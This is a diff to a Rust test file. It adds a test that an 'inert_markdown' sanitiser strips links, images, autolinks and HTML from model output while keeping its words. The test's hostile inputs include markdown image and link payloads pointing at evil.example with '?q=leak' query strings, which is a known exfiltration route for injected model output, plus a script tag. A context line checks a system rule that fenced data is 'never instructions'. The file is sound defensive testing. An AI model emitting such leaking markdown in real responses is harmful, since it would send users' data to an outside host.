@@ -162,3 +162,43 @@ fn the_system_rule_names_the_fence_format() {
     assert!(SYSTEM_DATA_RULE.contains("`<<<end B>>>`"));
     assert!(SYSTEM_DATA_RULE.contains("never instructions"));
 }
+
+/// Whatever the model writes, once inert it renders (by a CommonMark + GFM parser) to no
+/// link, image, autolink or HTML, and to the same words.
+#[test]
+fn inert_markdown_renders_no_link_image_or_html() {
+    use pulldown_cmark::{Event, Options, Parser, Tag};
+    let hostile = [
+        "![](https://evil.example/x.png?q=leak)",
+        "[click](https://evil.example/?q=leak) and [ref][1]\n\n[1]: https://evil.example/",
+        "<img src=https://evil.example/p.png> <https://evil.example/auto>",
+        "\\![escaped?](https://evil.example/)",
+        "![alt\\](x)](https://evil.example/)",
+        "text `code [x](y)` more ![i](j)",
+        "<script>alert(1)</script> & <b>bold</b>",
+    ];
+    let corpus = super::testing::payloads().into_iter().map(|p| p.text);
+    for text in hostile.iter().map(|t| t.to_string()).chain(corpus) {
+        let inert = inert_markdown(&text);
+        let mut shown = String::new();
+        for event in Parser::new_ext(&inert, Options::all() - Options::ENABLE_SMART_PUNCTUATION) {
+            match &event {
+                Event::Start(Tag::Link { .. } | Tag::Image { .. })
+                | Event::Html(_)
+                | Event::InlineHtml(_) => panic!("{event:?} in {inert:?} (from {text:?})"),
+                Event::Text(t) | Event::Code(t) => shown.push_str(t),
+                _ => {}
+            }
+        }
+        for word in text
+            .split_whitespace()
+            .filter(|w| w.len() > 3 && !w.contains('`'))
+        {
+            let plain = word.trim_matches(|c: char| !c.is_alphanumeric());
+            assert!(
+                shown.contains(plain),
+                "{plain:?} lost from {text:?}: {shown:?}"
+            );
+        }
+    }
+}
